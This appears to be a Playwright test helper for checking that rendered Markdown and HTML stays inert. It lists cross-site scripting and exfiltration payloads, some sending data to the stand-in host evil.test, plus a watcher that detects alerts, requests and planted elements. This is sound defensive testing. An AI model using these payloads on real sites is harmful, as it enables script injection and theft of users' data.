/** What is tried where people and models write, and how one sees that nothing of it ran or left. */
import type { Page } from '@playwright/test';

/** Each of them calls `alert` or fetches `evil.test` if it runs anywhere. */
export const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><svg/onload=alert(1)>',
  '"><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
  '[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [vb](vbscript:alert(1))',
  '[entity](&#106;avascript:alert(1)) [tab](java\tscript:alert(1)) <javascript:alert(1)>',
  '![out](https://evil.test/?secret) ![js](javascript:alert(1)) ![data](data:image/svg+xml,<svg onload=alert(1)>)',
  '![ref][r]\n\n[r]: https://evil.test/ref "t"',
  '```"><img src=x onerror=alert(1)>\ncode </code></pre><script>alert(1)</script>\n```',
  '```html\n<img src=x onerror=alert(1)><script>alert(1)</script>\n```',
  '```js onload=alert(1) class="x"\nalert(`</script><script>alert(1)</script>`)\n```',
  '<style>@import "https://evil.test/css"; body{background:url(https://evil.test/bg)}</style>',
  '<link rel=prefetch href=https://evil.test/p><meta http-equiv=refresh content="0;url=https://evil.test">',
  '<base href="https://evil.test/"><form action="https://evil.test"><button>go</button></form>',
  '<math><mtext></table><mglyph><style><img src=x onerror=alert(1)></style></math>',
  '|a|\n|-|\n|<img src=x onerror=alert(1)>|',
  '{{constructor.constructor("alert(1)")()}} <%= alert(1) %>',
];

/** Watches for anything that runs or leaves. */
export async function watch(page: Page): Promise<string[]> {
  const seen: string[] = [];
  page.on('dialog', (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.exposeFunction('tellAlert', (words: string) => void seen.push(`alert: ${words}`));
  await page.addInitScript(() => {
    window.alert = (words) =>
      void (window as unknown as { tellAlert(words: string): void }).tellAlert(String(words));
  });
  // Every change of the page is looked at, so that nothing is there even for a moment.
  await page.addInitScript((selector) => {
    new MutationObserver(() => {
      const found = document.querySelector(selector);
      if (found) void (window as unknown as { tellAlert(words: string): void }).tellAlert(found.outerHTML);
    }).observe(document, { childList: true, subtree: true, attributes: true });
  }, PLANTED);
  await page.route(/evil\.test/, (route) => {
    seen.push(`request: ${route.request().url()}`);
    return route.abort();
  });
  page.on('framenavigated', (frame) => {
    if (!/^(http:\/\/(127\.0\.0\.1|localhost)|about:blank)/.test(frame.url()))
      seen.push(`navigated: ${frame.url()}`);
  });
  return seen;
}

/** Elements that could only come from an attack; windows and menus hang from the body. */
const PLANTED = `body :is(script:not([type="module"][src]), iframe, object, embed, form[action], base, link, meta, style, math,
  [onerror], [onload], [onfocus], [href^="javascript:" i], [href^="data:" i], [href^="vbscript:" i], img[src^="http"])`;
export const planted = (page: Page) => page.locator(PLANTED).count();
